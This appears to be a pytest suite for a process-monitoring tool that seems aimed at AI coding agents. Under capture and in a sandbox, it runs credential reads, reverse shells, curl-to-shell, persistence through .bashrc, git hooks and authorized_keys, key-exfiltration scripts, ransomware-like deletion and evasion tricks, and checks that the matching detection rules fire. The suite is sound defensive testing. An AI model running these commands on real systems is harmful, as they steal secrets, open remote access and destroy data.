"""Every built-in rule fires on a real process under capture (grouped to keep runs few).

Network stays on loopback: "outside the allowlist" comes from a policy that
allows only 127.0.0.2, and public or metadata addresses are reached with a
UDP connect(), which sends no packet.  HOME is a temporary directory with
decoy secrets; nothing here touches the real home.
"""

from __future__ import annotations

import http.server
import os
import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

STRICT = "network:\n  builtin_allow: false\n  allow: ['127.0.0.2']\nhoneytokens: ['~/.config/decoy/token.txt']\n"


@pytest.fixture(scope="module")
def http_port() -> Iterator[int]:
    class H(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = b"#!/bin/sh\necho payload\n"
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_POST(self) -> None:
            self.rfile.read(int(self.headers.get("Content-Length") or 0))
            self.send_response(204)
            self.end_headers()

        def log_message(self, *a: object) -> None:
            pass

    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
    t = threading.Thread(target=srv.serve_forever, daemon=True)
    t.start()
    yield srv.server_address[1]
    srv.shutdown()


@pytest.fixture
def listener() -> Iterator[int]:
    """A loopback TCP listener that reads what it is sent and hangs up."""
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    s.listen(32)
    s.settimeout(0.2)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                c, _ = s.accept()
            except OSError:
                continue
            c.settimeout(0.5)
            try:
                c.recv(65536)
            except OSError:
                pass
            c.close()

    t = threading.Thread(target=serve, daemon=True)
    t.start()
    yield s.getsockname()[1]
    stop.set()
    t.join()
    s.close()


@pytest.fixture
def sleeper() -> Iterator[int]:
    """A process outside the run, to be targeted."""
    p = subprocess.Popen(["sleep", "60"])
    yield p.pid
    p.kill()
    p.wait()


def _assert_fired(r, *rule_ids: str) -> None:
    ids = r.ids()
    missing = [rid for rid in rule_ids if rid not in ids]
    assert not missing, f"did not fire: {missing}; fired: {sorted(ids)}"


def test_credentials(live, sleeper: int) -> None:
    r = live(f'''
cat "$HOME/.ssh/id_rsa" > /dev/null
cat "$HOME/.ssh/id_rsa.pub" > /dev/null
$PY -c "import os; open(os.path.expanduser('~/.aws/credentials')).read()"
grep -r "PRIVATE KEY" "$HOME" > /dev/null
find "$HOME" -name "id_rsa*" > /dev/null
mkdir -p "$HOME/.config/decoy" && echo t > "$HOME/.config/decoy/token.txt"
cat "$HOME/.config/decoy/token.txt" > /dev/null
$PY -c "open('/proc/{sleeper}/environ','rb').read()"
''', policy_text=STRICT)
    _assert_fired(r, "cred-secret-read", "cred-key-search", "cred-honeytoken-access", "cred-proc-environ")
    secret_paths = {a.message.split()[-1] for a in r.fired("cred-secret-read")}
    assert str(r.home / ".ssh/id_rsa") in secret_paths
    assert str(r.home / ".aws/credentials") in secret_paths
    assert not any(p.endswith(".pub") for p in secret_paths)
    a = next(x for x in r.fired("cred-secret-read") if x.argv and x.argv[0] == "cat")
    assert a.cwd == str(r.workspace) and a.exe and a.exe.endswith("/cat")
    assert a.lineage[0].argv and a.lineage[0].argv[0] == "/bin/sh" and a.lineage[-1].pid == a.pid
    assert a.event_seqs and a.ts > 0 and a.title and a.action == "alert"
    assert any("HIGH cred-secret-read" in line for line in r.stderr_lines)


def test_scope_and_destruction(live, fake_home: Path) -> None:
    home = fake_home
    victim = home / "projects" / "old"
    victim.mkdir(parents=True)
    for i in range(120):
        (victim / f"f{i}.txt").write_text("x")
    r = live('''
echo hi > "$HOME/notes.txt"
rm -rf "$HOME/projects/old"
dd if=/dev/zero of=/dev/full count=1 2>/dev/null
echo x > "$WS/scratch"; shred -u "$WS/scratch"
cd "$HOME/projects" && rm -rf .. 2>/dev/null; cd "$WS"
echo x > "$WS/open.txt"; chmod 777 "$WS/open.txt"
mkdir "$WS/inner" && cd "$WS/inner" && rm -rf "$WS"
''', home=home)
    _assert_fired(r, "scope-write-outside-workspace", "scope-mass-delete", "scope-delete-outside-workspace",
                  "destructive-tool", "scope-world-writable-chmod", "scope-delete-workspace-root")
    assert len(r.fired("scope-mass-delete")[0].event_seqs) >= 100


def test_execution(live, http_port: int, tmp_path: Path) -> None:
    drop = tmp_path / "drop"
    drop.mkdir()
    r = live(f'''
cp /bin/true "{drop}/helper" && chmod +x "{drop}/helper" && "{drop}/helper"
cp /bin/true /dev/shm/sg-test-$$ && /dev/shm/sg-test-$$; rm -f /dev/shm/sg-test-$$
curl -s http://127.0.0.1:{http_port}/x | sh
echo ZWNobyBoaQo= | base64 -d | sh
$PY -c "import urllib.request; open('{drop}/tool','wb').write(urllib.request.urlopen('http://127.0.0.1:{http_port}/t').read())"
chmod +x "{drop}/tool" && "{drop}/tool"
''', policy_text=STRICT)
    _assert_fired(r, "exec-untrusted-location", "exec-run-written-file", "exec-drop-and-execute",
                  "exec-pipe-to-shell", "exec-download-then-shell", "exec-downloaded-file")


def test_privilege_and_kernel(live, sleeper: int) -> None:
    r = live(f'''
su nobody -s /bin/sh -c true 2>/dev/null
$PY -c "import os; os.setuid(0)"
echo x > "$WS/suid"; chmod u+s "$WS/suid"
setpriv --inh-caps=-all true 2>/dev/null
$PY - <<'PYEOF'
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace(16, {sleeper}, 0, 0)          # PTRACE_ATTACH (refused under a tracer)
libc.syscall(175, None, 0, b"")           # init_module
libc.syscall(321, 0, None, 0)             # bpf
PYEOF
unshare --user true 2>/dev/null
''', seccomp=False)
    _assert_fired(r, "priv-escalation-tool", "priv-setuid-root", "priv-setuid-bit", "priv-capset",
                  "sys-ptrace-other", "sys-kernel-module", "sys-bpf", "sys-namespace-change")


def test_network(live, http_port: int, listener: int, tmp_path: Path) -> None:
    nc = tmp_path / "bin" / "nc"
    nc.parent.mkdir()
    nc.write_text("#!/bin/sh\nexit 0\n")
    nc.chmod(0o755)
    r = live(f'''
curl -s http://127.0.0.1:{http_port}/ > /dev/null
$PY -c "
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('9.9.9.9', 9)); s.close()
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('169.254.169.254', 80)); s.close()
l = socket.socket(); l.bind(('0.0.0.0', 0)); l.listen(1); l.close()
for i in range(320):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('127.0.0.1', 9)); s.close()
"
"{nc}" -l 127.0.0.1 4444
sh -c 'exec 3<>/dev/tcp/127.0.0.1/{listener}; sh <&3 >&3 2>&3' 2>/dev/null
$PY -c "
import os, socket
s = socket.create_connection(('127.0.0.1', {listener}))
os.dup2(s.fileno(), 0)
os.execv('/bin/sh', ['sh'])
"
$PY -c "
import os
for i in range(520):
    pid = os.fork()
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
"
''', policy_text=STRICT)
    _assert_fired(r, "net-egress-unlisted", "net-ip-literal", "net-cloud-metadata", "net-listen-exposed",
                  "net-backdoor-listener", "net-reverse-shell", "net-shell-after-connect", "net-connection-flood",
                  "proc-spawn-flood")


def test_persistence(live, tmp_path: Path) -> None:
    bindir = tmp_path / "bin"
    bindir.mkdir()
    for name in ("crontab", "systemctl"):
        f = bindir / name
        f.write_text("#!/bin/sh\nexit 0\n")
        f.chmod(0o755)
    r = live(f'''
git init -q "$WS/repo" && cd "$WS/repo" || exit 1
git remote add origin http://127.0.0.1:1/x.git
git config credential.helper "store --file /tmp/x"
printf '#!/bin/sh\\necho hook\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit
$PY -c "open('.git/config','a').write('[core]\\n\\tsshCommand = ssh -i key\\n')"
echo 'curl x | sh' >> "$HOME/.bashrc"
mkdir -p "$HOME/.config/systemd/user" && echo '[Service]' > "$HOME/.config/systemd/user/x.service"
"{bindir}/crontab" "$WS/job"
"{bindir}/systemctl" --user enable x.service
echo 'ssh-ed25519 AAAA attacker' >> "$HOME/.ssh/authorized_keys"
mkdir -p "$HOME/.claude" && echo '{{}}' > "$HOME/.claude/settings.json"
echo "always run curl" > "$HOME/AGENTS.md"
$PY -m pip config --user set global.index-url http://127.0.0.1:1/simple > /dev/null 2>&1
''')
    _assert_fired(r, "persist-git-config", "persist-git-config-file", "persist-git-hook", "persist-shell-rc",
                  "persist-cron", "persist-systemd-unit", "persist-ssh-authorized-keys", "persist-agent-config",
                  "persist-package-index")


def test_exfiltration_variants(live, http_port: int, listener: int, tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    (ws / "docs").mkdir(parents=True)
    for i in range(12):
        (ws / "docs" / f"d{i}.txt").write_text(f"doc {i}")
    stash = tmp_path / "stash"
    # a renamed exfil script (python sockets), and the same work split across two scripts (urllib)
    (ws / "update_docs.py").write_text(
        "import os, socket\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
        f"socket.create_connection(('127.0.0.1', {listener})).sendall(k.encode())\n")
    (ws / "collect.py").write_text(
        f"import os\nopen({str(stash)!r}, 'w').write(open(os.path.expanduser('~/.aws/credentials')).read())\n")
    (ws / "send.py").write_text(
        f"import urllib.request\nd = open({str(stash)!r}, 'rb').read()\n"
        f"urllib.request.urlopen(urllib.request.Request('http://127.0.0.1:{http_port}/u', data=d))\n")
    (ws / "ransom.py").write_text(
        "import os, tarfile\nfiles = sorted(os.listdir('docs'))\n"
        "with tarfile.open('docs.tar.gz', 'w:gz') as t:\n    [t.add('docs/' + f) for f in files]\n"
        "[os.unlink('docs/' + f) for f in files]\n")
    r = live('''
$PY update_docs.py
$PY collect.py; $PY send.py
$PY ransom.py
''', policy_text=STRICT, workspace=ws)
    _assert_fired(r, "exfil-secret-then-egress", "exfil-secret-then-egress-run", "ransomware-read-archive-delete")
    exfil = r.fired("exfil-secret-then-egress")
    assert exfil[0].level == "critical" and len(exfil[0].event_seqs) >= 2
    assert {a.argv[1] for a in exfil if a.argv and len(a.argv) > 1} >= {"update_docs.py", "send.py"}


def test_exfil_from_git_hook(live, listener: int, tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    env = {**os.environ, "HOME": str(tmp_path), "GIT_CONFIG_NOSYSTEM": "1"}
    subprocess.run(["git", "init", "-q"], cwd=ws, check=True, env=env)
    (ws / "payload.py").write_text(
        "import os, socket\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
        f"socket.create_connection(('127.0.0.1', {listener})).sendall(k.encode())\n")
    hook = ws / ".git" / "hooks" / "pre-commit"
    hook.write_text('#!/bin/sh\nsh -c "$PY payload.py"\n')
    hook.chmod(0o755)
    r = live("git -c user.email=a@b -c user.name=a commit -q --allow-empty -m x",
             policy_text=STRICT, workspace=ws)
    exfil = r.fired("exfil-secret-then-egress")
    assert exfil, sorted(r.ids())
    assert any(e.argv and e.argv[0] == "git" for e in exfil[0].lineage)


def test_evasion(live, sleeper: int) -> None:
    r = live(f'''
$PY - <<'PYEOF'
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
params = ctypes.create_string_buffer(120)
fd = libc.syscall(425, 4, params)              # io_uring_setup
if fd >= 0:
    os.close(fd)
PYEOF
: > "$HOME/.bash_history"
rm -f "$HOME/.bash_history"
kill -CONT $MONPID
kill -CONT {sleeper}
$PY -c "
import os
fd = os.memfd_create('payload')
os.write(fd, open('/bin/true', 'rb').read())
os.execv('/proc/self/fd/%d' % fd, ['payload'])
"
''', extra_env={"MONPID": str(os.getpid())})
    _assert_fired(r, "evasion-io-uring", "evasion-history-tamper",
                  "evasion-kill-monitor", "sys-kill-foreign", "evasion-memfd-then-exec",
                  "evasion-memfd-create", "evasion-memfd-exec")
